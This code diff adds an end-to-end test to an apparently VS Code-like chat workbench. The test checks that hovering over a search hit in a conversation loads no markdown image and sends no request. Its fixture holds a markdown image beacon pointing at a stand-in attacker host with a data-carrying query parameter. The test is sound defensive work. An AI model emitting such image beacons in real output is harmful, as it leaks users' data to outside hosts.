@@ -62,6 +62,24 @@ journey('a conversation is pinned, renamed and archived from the list', async ({
   assert.equal(await rows(workbench).count(), 1);
 });
 
+journey(
+  'what was found in a conversation loads no picture where the mouse rests on it',
+  async ({ workbench, context }) => {
+    const loaded: string[] = [];
+    context.on('request', request => {
+      if (request.url().includes('evil.invalid')) loaded.push(request.url());
+    });
+    await conversations(workbench, ['Something else', 'A first line\n\npixel ![x](https://evil.invalid/?code=1)']);
+    await open(workbench, 'A first line');
+    await workbench.page.keyboard.type('pixel');
+    await rows(workbench).first().locator('.quick-input-list-label-meta').hover();
+    const hover = workbench.page.locator('.monaco-hover', { hasText: 'pixel' });
+    await hover.waitFor();
+    assert.equal(await hover.locator('img').count(), 0);
+    assert.deepEqual(loaded, []);
+  },
+);
+
 journey('a deleted conversation comes back by Undo', async ({ workbench }) => {
   const chat = await conversations(workbench, ['Stays where it is', 'Goes and comes back']);
   await open(workbench, 'Goes and comes back');
